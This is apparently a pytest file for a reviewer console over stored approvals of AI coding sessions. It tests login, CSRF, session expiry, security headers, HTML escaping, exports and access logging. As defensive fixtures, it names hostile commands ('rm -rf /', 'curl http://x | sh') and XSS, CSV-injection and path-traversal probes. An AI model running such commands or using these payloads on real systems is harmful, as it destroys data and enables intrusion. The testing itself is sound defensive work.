"""The console over HTTP (aiohttp's test client): authentication, headers, pages, export, access trail."""

from __future__ import annotations

import contextlib
import io
import re
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import orjson
import pytest
from aiohttp.test_utils import TestClient, TestServer

from collector import cli
from collector.compliance.approvals import ApprovalFilter, store_rows, write_rows
from collector.config import load_tree
from collector.configtypes import Secret
from collector.console.auth import CSRF_COOKIE, SESSION_COOKIE
from collector.console.server import CSP, ConsoleApp
from collector.console.settings import ConsoleAuthConfig, ConsoleConfig, ReviewerTokenConfig
from tests.collector.console.console_support import PAYLOADS, T0, corpus, write_store

TOKEN = "reviewer-token-0123456789"
SINCE = "2025-11-24T00:00:00Z"
UNTIL = "2025-11-25T00:00:00Z"


class Recorder:
    def __init__(self) -> None:
        self.records: list[dict[str, Any]] = []

    async def __call__(self, rec: dict[str, Any]) -> None:
        self.records.append(rec)


@pytest.fixture
def data_dir(tmp_path: Path) -> Path:
    d = tmp_path / "data"
    write_store(d, corpus())
    return d


def console_cfg(**auth: Any) -> ConsoleConfig:
    if not auth:
        auth = {"tokens": [ReviewerTokenConfig(Secret(TOKEN), "carol")]}
    return ConsoleConfig(endpoint="127.0.0.1:0", auth=ConsoleAuthConfig(**auth))


@contextlib.asynccontextmanager
async def client_for(app: ConsoleApp) -> AsyncIterator[TestClient]:
    async with TestClient(TestServer(app.app())) as c:
        yield c


@pytest.fixture
async def setup(data_dir: Path) -> AsyncIterator[tuple[TestClient, Recorder, ConsoleApp]]:
    rec = Recorder()
    app = ConsoleApp(console_cfg(), data_dir, rec)
    async with client_for(app) as c:
        yield c, rec, app


BEARER = {"Authorization": f"Bearer {TOKEN}"}


async def login(c: TestClient, token: str = TOKEN) -> Any:
    form = await c.get("/login")
    html = await form.text()
    csrf = re.search(r'name="csrf" value="([^"]+)"', html).group(1)  # type: ignore[union-attr]
    return await c.post("/login", data={"token": token, "csrf": csrf}, allow_redirects=False)


async def test_login_sets_a_strict_httponly_expiring_cookie_and_redirects_without_the_token(setup):
    c, _rec, _app = setup
    resp = await login(c)
    assert resp.status == 303
    assert resp.headers["Location"] == "/approvals"
    cookie = resp.headers.getall("Set-Cookie")
    session = next(v for v in cookie if v.startswith(SESSION_COOKIE + "="))
    assert "HttpOnly" in session and "SameSite=Strict" in session and "Max-Age=28800" in session
    assert "Secure" not in session  # plain HTTP on loopback
    assert TOKEN not in resp.headers["Location"] and TOKEN not in " ".join(cookie)
    page = await c.get("/approvals")
    assert page.status == 200
    assert "carol" in await page.text()


async def test_wrong_token_missing_credentials_and_bad_scheme_get_401(setup):
    c, rec, _app = setup
    assert (await login(c, "not-the-token-xyz")).status == 401
    for headers in ({}, {"Authorization": "Bearer wrong-token-123"}, {"Authorization": f"Basic {TOKEN}"}):
        resp = await c.get("/approvals", headers=headers)
        assert resp.status == 401, headers
        assert resp.headers["WWW-Authenticate"].startswith("Bearer")
        assert resp.headers["Content-Security-Policy"] == CSP
        assert "Unauthorized" in await resp.text()
    exp = await c.get("/approvals/export?format=csv", headers={"Authorization": "Bearer nope-nope-nope"})
    assert exp.status == 401
    assert rec.records == []  # refused requests see nothing and record no view


async def test_login_form_needs_its_csrf_cookie(setup):
    c, _rec, _app = setup
    await c.get("/login")
    c.session.cookie_jar.clear()
    resp = await c.post("/login", data={"token": TOKEN, "csrf": "forged"}, allow_redirects=False)
    assert resp.status == 403


async def test_logout_needs_the_session_csrf_and_ends_the_session(setup):
    c, _rec, app = setup
    await login(c)
    page = await (await c.get("/approvals")).text()
    csrf = re.search(r'id="logout"><input type="hidden" name="csrf" value="([^"]+)"', page).group(1)  # type: ignore[union-attr]
    assert (await c.post("/logout", data={"csrf": "wrong"}, allow_redirects=False)).status == 403
    resp = await c.post("/logout", data={"csrf": csrf}, allow_redirects=False)
    assert resp.status == 303
    assert app.auth.sessions == {}
    assert (await c.get("/approvals")).status == 401


async def test_session_expires(data_dir):
    now = [1000.0]
    app = ConsoleApp(console_cfg(), data_dir, Recorder())
    app.auth.clock = lambda: now[0]
    async with client_for(app) as c:
        await login(c)
        assert (await c.get("/approvals")).status == 200
        now[0] += 8 * 3600 + 1
        assert (await c.get("/approvals")).status == 401


async def test_one_time_token_on_loopback_works_once(data_dir):
    app = ConsoleApp(ConsoleConfig(endpoint="127.0.0.1:0"), data_dir, Recorder())
    token = app.auth.one_time
    assert token
    async with client_for(app) as c:
        resp = await c.get(f"/login?token={token}", allow_redirects=False)
        assert resp.status == 303 and resp.headers["Location"] == "/approvals"
        assert (await c.get("/approvals")).status == 200
        c.session.cookie_jar.clear()
        assert (await c.get(f"/login?token={token}", allow_redirects=False)).status == 401
        assert (await c.get("/approvals", headers={"Authorization": f"Bearer {token}"})).status == 401


async def test_trusted_header_only_from_trusted_proxies(data_dir):
    ok = ConsoleApp(
        console_cfg(trusted_header="X-Forwarded-User", trusted_proxies=["127.0.0.0/8"]), data_dir, Recorder()
    )
    async with client_for(ok) as c:
        resp = await c.get("/approvals", headers={"X-Forwarded-User": "dave@example.com"})
        assert resp.status == 200
        assert "dave@example.com" in await resp.text()
    far = ConsoleApp(
        console_cfg(trusted_header="X-Forwarded-User", trusted_proxies=["10.0.0.0/8"]), data_dir, Recorder()
    )
    async with client_for(far) as c:
        resp = await c.get("/approvals", headers={"X-Forwarded-User": "dave@example.com"})
        assert resp.status == 403
        assert "proxies" in await resp.text()
        assert (await c.get("/approvals")).status == 401


async def test_security_headers_on_every_answer(setup):
    c, _rec, _app = setup
    for path, headers in (("/approvals", BEARER), ("/nope", BEARER), ("/login", {}), ("/static/console.css", {})):
        resp = await c.get(path, headers=headers)
        assert resp.headers["Content-Security-Policy"] == CSP, path
        assert "'unsafe-inline'" not in CSP and "script-src 'self'" in CSP
        assert resp.headers["X-Content-Type-Options"] == "nosniff"
        assert resp.headers["Referrer-Policy"] == "no-referrer"
    assert (await c.get("/nope", headers=BEARER)).status == 404
    assert (await c.get("/static/..%2Fserver.py")).status == 404


async def test_trail_is_newest_first_with_counts_and_session_links(setup):
    c, _rec, _app = setup
    resp = await c.get(f"/approvals?since={SINCE}&until={UNTIL}", headers=BEARER)
    html = await resp.text()
    times = re.findall(r'<td class="mono"><a href="/sessions/[^"]+">([^<]+)</a>', html)
    assert len(times) == 3 + 2 + 2 + 2 * len(PAYLOADS)
    assert times == sorted(times, reverse=True)
    assert 'id="count-decisions">21<' in html
    assert 'id="count-rejected">10<' in html  # 1 + 1 + 1 + 7 payload rejects
    assert 'id="count-hook">1<' in html and 'id="count-automatic">1<' in html and 'id="count-manual">19<' in html
    assert 'href="/sessions/s-mallory-%3Cb%3E1%3C%2Fb%3E"' in html


async def test_filters_user_decision_and_free_text(setup):
    c, _rec, _app = setup
    base = f"/approvals?since={SINCE}&until={UNTIL}"
    html = await (await c.get(base + "&user=alice@example.com&decision=reject", headers=BEARER)).text()
    assert "rm -rf /" in html and "curl http://x | sh" in html and "shutdown now" not in html
    assert 'id="count-decisions">2<' in html
    html = await (await c.get(base + "&q=NOTES.md", headers=BEARER)).text()
    assert "/tmp/notes.md" in html and 'id="count-decisions">1<' in html
    bad = await c.get(f"/approvals?until={UNTIL}&since=yesterday-ish", headers=BEARER)
    assert bad.status == 400 and "since: invalid time" in await bad.text()
    bad = await c.get(base + "&decision=maybe", headers=BEARER)
    assert bad.status == 400 and "decision: must be one of accept, reject" in await bad.text()


async def test_paging_is_fifty_rows(data_dir, tmp_path):
    from tests.collector.console.console_support import session_records

    d = tmp_path / "many"
    calls = [{"name": "Bash", "decision": "reject", "source": "user_reject", "command": f"echo {i}"} for i in range(60)]
    write_store(d, session_records("big", "erin@example.com", T0, calls))
    app = ConsoleApp(console_cfg(), d, Recorder())
    async with client_for(app) as c:
        p1 = await (await c.get(f"/approvals?since={SINCE}&until={UNTIL}", headers=BEARER)).text()
        assert p1.count('<tr><td class="mono">') == 50 and "echo 59" in p1 and "echo 9<" not in p1
        assert 'class="older"' in p1
        p2 = await (await c.get(f"/approvals?since={SINCE}&until={UNTIL}&page=2", headers=BEARER)).text()
        assert p2.count('<tr><td class="mono">') == 10 and "echo 0<" in p2 and 'class="older"' not in p2


async def test_stored_html_and_script_are_escaped_everywhere(setup):
    c, _rec, _app = setup
    pages = [
        f"/approvals?since={SINCE}&until={UNTIL}",
        "/sessions/s-mallory-%3Cb%3E1%3C%2Fb%3E",
        f"/users/mallory%3Cscript%3E@example.com?since={SINCE}&until={UNTIL}",
    ]
    for path in pages:
        resp = await c.get(path, headers=BEARER)
        assert resp.status == 200, path
        html = await resp.text()
        assert "<script>window" not in html and "<img src=x" not in html and "<svg/onload" not in html
        assert "<iframe" not in html and "<b>1</b>" not in html and "<b>now</b>" not in html
        assert "&lt;script&gt;" in html
        assert "<script" not in html.replace('<script src="/static/console.js" defer></script>', "")


async def test_session_page_shows_timeline_totals_and_identity(setup):
    c, _rec, _app = setup
    html = await (await c.get("/sessions/s-alice-1", headers=BEARER)).text()
    kinds = re.findall(r'<tr data-kind="([a-z_]+)"', html)
    assert kinds == [
        "user_prompt",
        "tool_decision",
        "tool_result",
        "tool_decision",
        "tool_decision",
        "tool_result",
        "file_change",
        "api_request",
        "api_error",
    ]
    assert "host-alice" in html and "2.1.332" in html and "alice@example.com" in html
    assert 'id="session-cost">$0.0125<' in html and "input 1200, output 300, cache read 50" in html
    missing = await c.get("/sessions/none-such", headers=BEARER)
    assert missing.status == 404


async def test_user_page_counts_sessions_decisions_rejections_cost(setup):
    c, _rec, _app = setup
    html = await (await c.get(f"/users/alice@example.com?since={SINCE}&until={UNTIL}", headers=BEARER)).text()
    assert 'id="user-sessions">2<' in html and 'id="user-decisions">5<' in html
    assert 'id="user-rejected">2<' in html and 'id="user-cost">$0.0250<' in html


def cli_export(data_dir: Path, *args: str) -> str:
    out = io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(io.StringIO()):
        assert cli.main(["approvals", "export", "--data-dir", str(data_dir), *args]) == 0
    return out.getvalue()


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
async def test_export_is_exactly_the_cli_export_of_the_same_filter(setup, data_dir, fmt):
    c, rec, _app = setup
    for query, args in (
        ({}, []),
        ({"user": "alice@example.com", "decision": "reject"}, ["--user", "alice@example.com", "--decision", "reject"]),
        ({"q": "<script>"}, ["--text", "<script>"]),
        ({"mode": "hook", "tool": "Bash"}, ["--mode", "hook", "--tool", "Bash"]),
    ):
        params = {"format": fmt, "since": SINCE, "until": UNTIL, **query}
        resp = await c.get("/approvals/export", params=params, headers=BEARER)
        assert resp.status == 200
        body = await resp.read()
        expected = cli_export(data_dir, "--since", SINCE, "--until", UNTIL, "--format", fmt, *args)
        assert body == expected.encode()
        assert rec.records[-1]["trail_access"]["rows"] == (body.count(b"\n") - (1 if fmt == "csv" else 0))
        assert rec.records[-1]["trail_access"]["format"] == fmt
    assert "attachment" in resp.headers["Content-Disposition"]
    # the free text really filters: commands and paths holding "<script>" (two payloads, as command and as path)
    resp = await c.get(
        "/approvals/export", params={"format": "jsonl", "since": SINCE, "until": UNTIL, "q": "<SCRIPT>"}, headers=BEARER
    )
    rows = [orjson.loads(line) for line in (await resp.read()).splitlines()]
    assert len(rows) == 4
    assert all("<script>" in (r["command"] or r["file_path"]) for r in rows)
    flt = ApprovalFilter(1_763_942_400_000, 1_764_028_800_000)
    buf = io.StringIO()
    write_rows(store_rows(data_dir, flt), buf, "csv")
    full = await (await c.get("/approvals/export", params={"since": SINCE, "until": UNTIL}, headers=BEARER)).read()
    assert full == buf.getvalue().encode()
    assert b"'=cmd|" in full  # CSV injection neutralised exactly as the CLI does


async def test_every_view_and_export_is_a_trail_access_record(setup):
    c, rec, _app = setup
    await c.get(f"/approvals?since={SINCE}&until={UNTIL}&user=bob@example.com", headers=BEARER)
    await c.get("/sessions/s-bob-1", headers=BEARER)
    await c.get(f"/users/bob@example.com?since={SINCE}&until={UNTIL}", headers=BEARER)
    await c.get("/integrity", headers=BEARER)
    await (await c.get(f"/approvals/export?format=jsonl&since={SINCE}&until={UNTIL}", headers=BEARER)).read()
    await c.get("/static/console.css")
    pages = [(r["trail_access"]["page"], r["trail_access"]["rows"]) for r in rec.records]
    assert pages == [("/approvals", 2), ("/sessions", 6), ("/users", 1), ("/integrity", 0), ("/approvals/export", 21)]
    first = rec.records[0]
    assert first["kind"] == "trail_access" and first["trail_access"]["reviewer"] == "carol"
    assert first["trail_access"]["source_address"] == "127.0.0.1"
    assert first["trail_access"]["filter"] == {
        "since": "2025-11-24T00:00:00.000Z",
        "until": "2025-11-25T00:00:00.000Z",
        "user": "bob@example.com",
        "page": "1",
    }
    assert all(TOKEN not in orjson.dumps(r).decode() for r in rec.records)


def test_config_refuses_a_non_loopback_console_without_auth_or_tls(tmp_path):
    from collector.configtypes import ConfigError

    cert = {"cert_file": str(tmp_path / "c.pem"), "key_file": str(tmp_path / "k.pem")}
    auth = {"tokens": [{"token": TOKEN, "reviewer": "carol"}]}
    with pytest.raises(ConfigError, match=r"console.endpoint: 0.0.0.0:8080 .* without reviewer authentication"):
        load_tree({"console": {"endpoint": "0.0.0.0:8080", "tls": cert}})
    with pytest.raises(ConfigError, match=r"console.endpoint: 192.0.2.1:8080 .* without TLS"):
        load_tree({"console": {"endpoint": "192.0.2.1:8080", "auth": auth}})
    cfg = load_tree({"console": {"endpoint": "0.0.0.0:8080", "auth": auth, "tls": cert}})
    assert cfg.console.auth.tokens[0].reviewer == "carol"
    assert load_tree({"console": {"endpoint": "0.0.0.0:8080", "enabled": False}}).console.enabled is False
    assert load_tree({"console": {"endpoint": "[::1]:8080"}}).console.auth.configured is False
    with pytest.raises(ConfigError, match="trusted_proxies: trusted_header needs"):
        load_tree({"console": {"auth": {"trusted_header": "X-Forwarded-User"}}})
    with pytest.raises(ConfigError, match=r"trusted_proxies\[0\]: not an address"):
        load_tree({"console": {"auth": {"trusted_header": "X-User", "trusted_proxies": ["nope"]}}})
    with pytest.raises(ConfigError, match=r"console.auth.tokens\[0\].token: token must be at least"):
        load_tree({"console": {"auth": {"tokens": [{"token": "short", "reviewer": "carol"}]}}})


def test_cli_run_refuses_a_non_loopback_console_without_tls(tmp_path, capsys):
    import yaml

    conf = tmp_path / "c.yaml"
    conf.write_text(
        yaml.safe_dump(
            {"console": {"endpoint": "0.0.0.0:18080", "auth": {"tokens": [{"token": TOKEN, "reviewer": "c"}]}}}
        )
    )
    code = cli.main(["run", "--config", str(conf), "--data-dir", str(tmp_path / "d")])
    err = capsys.readouterr().err
    assert code != 0
    assert "without TLS" in err and TOKEN not in err


async def test_tokens_file_and_hashed_tokens(data_dir, tmp_path):
    import hashlib

    f = tmp_path / "reviewers"
    f.write_text(f"frank: {TOKEN}x\ngrace: sha256:{hashlib.sha256(b'grace-token-123').hexdigest()}\n")
    f.chmod(0o600)
    app = ConsoleApp(console_cfg(tokens_file=str(f)), data_dir, Recorder())
    async with client_for(app) as c:
        assert (await c.get("/integrity", headers={"Authorization": f"Bearer {TOKEN}x"})).status == 200
        assert (await c.get("/integrity", headers={"Authorization": "Bearer grace-token-123"})).status == 200
        assert (
            await c.get(
                "/integrity",
                headers={"Authorization": f"Bearer sha256:{hashlib.sha256(b'grace-token-123').hexdigest()}"},
            )
        ).status == 401


def test_csrf_cookie_name_is_scoped():
    assert CSRF_COOKIE != SESSION_COOKIE


async def test_integrity_page_names_the_first_broken_record_and_published_heads(data_dir):
    import contextlib as _cl

    from collector.pipeline import chain_head_record
    from collector.store.sqlite import connect, shard_path

    write_store(data_dir, [chain_head_record(0, 52, "ab" * 32, "host-1", (T0 + 9_000_000) * 1_000_000)])
    app = ConsoleApp(console_cfg(), data_dir, Recorder())
    app.integrity.verify_now()
    async with client_for(app) as c:
        html = await (await c.get("/integrity", headers=BEARER)).text()
        assert 'id="verify-result">intact: 53 records in 1 shard(s)<' in html
        assert "ab" * 32 in html and "host-1" in html
    with _cl.closing(connect(shard_path(data_dir, 0))) as conn:
        rid = conn.execute("SELECT id FROM records WHERE seq = 7").fetchone()[0]
        conn.execute("UPDATE records SET body = CAST('{\"tampered\":1}' AS BLOB) WHERE seq = 7")
    app.integrity.verify_now()
    async with client_for(app) as c:
        html = await (await c.get("/integrity", headers=BEARER)).text()
        assert 'id="verify-result">BROKEN<' in html
        assert f"shard 0, seq 7, record {rid}" in html and "was modified" in html


async def test_a_view_that_cannot_be_recorded_is_not_shown(data_dir):
    from collector.store.sqlite import StorageError

    async def failing(_rec: dict[str, Any]) -> None:
        raise StorageError("disk_full", "no space")

    app = ConsoleApp(console_cfg(), data_dir, failing)
    async with client_for(app) as c:
        resp = await c.get(f"/approvals?since={SINCE}&until={UNTIL}", headers=BEARER)
        assert resp.status == 503
        html = await resp.text()
        assert "could not be recorded" in html and "rm -rf" not in html
        import aiohttp

        exp = await c.get(f"/approvals/export?since={SINCE}&until={UNTIL}", headers=BEARER)
        # the held-back last chunk is never sent without its record, and the cut-short download is not complete
        with pytest.raises(aiohttp.ClientPayloadError):
            await exp.read()


async def test_no_token_reaches_a_log_line_or_a_page(data_dir, caplog):
    import logging

    caplog.set_level(logging.DEBUG)
    app = ConsoleApp(console_cfg(), data_dir, Recorder())
    async with client_for(app) as c:
        await login(c, "wrong-token-abcdef")
        await login(c)
        pages = [await (await c.get(p)).text() for p in ("/approvals", "/integrity", "/sessions/s-bob-1")]
        await c.get("/approvals", headers={"Authorization": "Bearer other-wrong-token"})
    text = caplog.text + "".join(pages)
    for secret in (TOKEN, "wrong-token-abcdef", "other-wrong-token"):
        assert secret not in text
    assert "signed in" in caplog.text and "failed sign-in" in caplog.text


async def test_the_access_trail_is_exported_by_audit_export(setup, data_dir, capsysbinary):
    from collector.pipeline import record_row
    from collector.store.sqlite import AuditStore

    c, rec, _app = setup
    await c.get("/integrity", headers=BEARER)
    with AuditStore(data_dir) as store:
        t = rec.records[0]
        store.append_sync(records=[record_row(t, 1_764_000_000_000 * 1_000_000, 1_764_000_000_000)])
    assert cli.main(["audit", "export", "--data-dir", str(data_dir), "--kind", "trail_access"]) == 0
    lines = [orjson.loads(x) for x in capsysbinary.readouterr().out.splitlines()]
    assert [x["trail_access"]["page"] for x in lines] == ["/integrity"]
